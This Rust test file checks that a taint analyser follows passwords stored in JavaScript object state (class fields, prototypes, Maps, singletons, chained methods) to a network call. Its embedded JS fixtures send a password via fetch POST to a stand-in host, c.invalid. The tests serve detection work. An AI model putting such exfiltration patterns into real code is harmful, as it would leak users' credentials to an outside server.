//! What objects keep between calls of their methods.

use super::flows;

const WANTED: &str = "parameter-to-network password>https://c.invalid/p";

/// Ways to keep what is given and to hand it over later, each in one file.
#[test]
fn what_one_method_keeps_another_hands_over() {
    const KEEPERS: [&str; 12] = [
        "class K { constructor() { this.rows = []; } add(v) { this.rows.push(v); } text() { return this.rows.join(); } }",
        "class K { #rows = []; add(v) { this.#rows.push({ v }); } text() { return JSON.stringify(this.#rows.splice(0)); } }",
        "class K { rows = {}; add(v) { this.rows['a' + v.length] = v; } text() { return JSON.stringify(this.rows); } }",
        "class K { constructor() { this.rows = {}; } add(v) { this.rows.one = { two: v }; } text() { return this.rows.one.two; } }",
        "class K { constructor() { this.rows = new Map(); } add(v) { this.rows.set('a', v); } text() { return this.rows.get('a'); } }",
        "class K { constructor() { this.text_ = ''; } add(v) { this.text_ += v; } text() { return this.text_; } }",
        "class K { rows = []; add(v) { this.rows.push(v); return this; } text() { return this.rows.at(-1); } }",
        "function K() { this.rows = []; } K.prototype.add = function (v) { this.rows.push(v); }; K.prototype.text = function () { return this.rows.join(); };",
        "function K() { this.rows = []; } K.prototype = { add: function (v) { this.rows.push(v); }, text: function () { return this.rows.join(); } };",
        "var K = (function () { function K() { this.rows = ''; } K.prototype.add = function (v) { this.rows += v; }; K.prototype.text = function () { return this.rows; }; return K; }());",
        "const one = { rows: [], add(v) { this.rows.push(v); }, text() { return this.rows.join(); } }; function K() { return one; }",
        "const one = { rows: '', add(v) { this.rows += v; }, text() { return this.rows; } }; function K() { return one; }",
    ];
    for keeper in KEEPERS {
        let outside = format!(
            "{keeper}
exports.open = (password) => {{
  const k = new K();
  k.add(password);
  fetch('https://c.invalid/p', {{ method: 'POST', body: k.text() }});
}};"
        );
        let found = flows(&[("i.js", &outside)]);
        assert!(
            found.iter().any(|flow| flow == WANTED),
            "{found:?}\n{outside}"
        );
    }
}

#[test]
fn a_method_that_sends_what_another_keeps() {
    const KEEPERS: [&str; 4] = [
        "class K { rows = []; add(v) { this.rows.push(v); } SEND }",
        "function K() { this.rows = []; } K.prototype.add = function (v) { this.rows.push(v); }; K.prototype.send = function () BODY;",
        "function K() { this.rows = ''; } K.prototype = { add(v) { this.rows += v; }, SEND };",
        "const one = { rows: [], add(v) { this.rows.push(v); }, SEND }; function K() { return one; }",
    ];
    let body = "{ fetch('https://c.invalid/p', { method: 'POST', body: String(this.rows) }); }";
    for keeper in KEEPERS {
        let keeper = keeper.replace("SEND", &format!("send() {body}"));
        let keeper = keeper.replace("BODY", body);
        let text = format!(
            "{keeper}
exports.open = (password) => {{ const k = new K(); k.add(password); k.send(); }};"
        );
        let found = flows(&[("i.js", &text)]);
        assert!(found.iter().any(|flow| flow == WANTED), "{found:?}\n{text}");
    }
}

#[test]
fn a_method_that_gives_its_object_loses_nothing() {
    const SENDERS: [&str; 3] = [
        "fetch('https://c.invalid/p', { method: 'POST', body: new K().add(password).text() });",
        "const k = new K().add('x'); k.add(password); fetch('https://c.invalid/p', { method: 'POST', body: `${k}` });",
        "const k = new K().add(password); new Post().send(k);",
    ];
    for sender in SENDERS {
        let text = format!(
            "class K {{
  constructor() {{ this.rows = []; }}
  add(v) {{ this.rows.push(v); return this; }}
  text() {{ return this.rows.join(); }}
  toString() {{ return this.rows.join(); }}
}}
class Post {{ send(k) {{ fetch('https://c.invalid/p', {{ method: 'POST', body: `${{k}}` }}); }} }}
exports.open = (password) => {{ {sender} }};"
        );
        let found = flows(&[("i.js", &text)]);
        assert!(found.iter().any(|flow| flow == WANTED), "{found:?}\n{text}");
    }
}

#[test]
fn decoys_do_not_push_out_what_is_kept() {
    let decoys: String = (0..60).map(|n| format!("this.rows.push({n});\n")).collect();
    let text = format!(
        "class K {{ rows = []; warm() {{ {decoys} }} add(v) {{ this.rows.push(v); }} cool() {{ {decoys} }}
  send() {{ fetch('https://c.invalid/p', {{ method: 'POST', body: this.rows.join() }}); }} }}
exports.open = (password) => {{ const k = new K(); k.add(password); k.send(); }};"
    );
    let found = flows(&[("i.js", &text)]);
    assert!(found.iter().any(|flow| flow == WANTED), "{found:?}");
}
